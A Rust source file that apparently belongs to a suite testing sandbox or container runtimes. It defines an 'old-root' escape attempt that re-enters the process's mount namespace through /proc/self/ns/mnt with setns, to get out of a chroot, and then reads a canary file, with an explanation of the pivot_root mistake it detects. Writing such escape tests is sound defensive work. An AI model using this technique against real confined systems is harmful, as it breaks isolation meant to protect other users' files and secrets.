//! The root that was there before: a chroot leaves it mounted.

use std::fs::File;

use nix::sched::{CloneFlags, setns};
use process::Step;

use crate::attack::attacker::{A_FILE, mount_proc, read_path};
use crate::attack::places::CANARY;
use crate::attack::target::Attack;

/// Our own mount namespace.
const NAMESPACE: &str = "/proc/self/ns/mnt";

pub const ATTACK: Attack = Attack {
    name: "old-root",
    title: "go back to the old root",
    tries: "enter the mount namespace in which it already is: who enters one finds itself at \
            its root, whatever directory has been made its own root by chroot.",
    why: "pivot_root makes another mount the root of the namespace, and unmounts the old one. \
          A runtime that forgets the second half has it lying on top.",
    reference: "setns(2), pivot_root(2)",
    stopped_by: 3,
    run: |target| Ok(target.attack::<&str>(&[], &[])?.has_read(target.secret, A_FILE)),
    inside: |_| {
        mount_proc();
        let namespace = File::open(NAMESPACE).step(|| format!("open {NAMESPACE}"))?;
        setns(namespace, CloneFlags::CLONE_NEWNS).step(|| format!("enter {NAMESPACE}"))?;
        read_path(CANARY)
    },
};
